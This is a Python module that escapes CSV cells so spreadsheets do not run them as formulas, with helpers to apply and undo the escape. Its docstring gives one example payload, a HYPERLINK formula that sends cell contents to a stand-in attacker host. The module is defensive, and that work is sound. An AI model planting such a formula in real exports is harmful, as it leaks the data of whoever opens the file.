"""Cells of published CSV files that a spreadsheet must not run as formulas.

Spreadsheets treat a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return before one) as a formula, so a member who names themselves
``=HYPERLINK("https://evil.example/?"&A1,"click")`` would plant a live formula in every copy of
the open data an officer opens. The OWASP guidance is followed: such a cell is written with a
leading apostrophe, which spreadsheets show as text and other readers see plainly (a text that
begins with an apostrophe gets one more, so a reader can always undo the escape). A cell that
is only a number (``-3``, ``+1.5``, ``-3/4``) is left alone: it evaluates to itself, and
prefixing it would change published figures.

Pure (no Django), so that both the analysis package and the record app, which write CSV,
can use it; it lives here because a pure package may import only pure packages.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?(/\d+)?")


def cell(value: Any) -> Any:
    """``value`` as a cell that cannot run as a formula; non-strings are returned as they are.

    A text that itself begins with an apostrophe gets one more, as a spreadsheet would need to
    show it, so the escape can always be undone (``uncell``): a reader of the file drops one
    leading apostrophe and has the text exactly."""
    if isinstance(value, str) and (
        (value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)) or value.startswith("'")
    ):
        return "'" + value
    return value


def uncell(text: str) -> str:
    """The text a published cell was written from (the inverse of ``cell`` for text)."""
    return text[1:] if text.startswith("'") else text


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in values]


def record(values: Mapping[str, Any]) -> dict[str, Any]:
    """A row for csv.DictWriter."""
    return {key: cell(value) for key, value in values.items()}
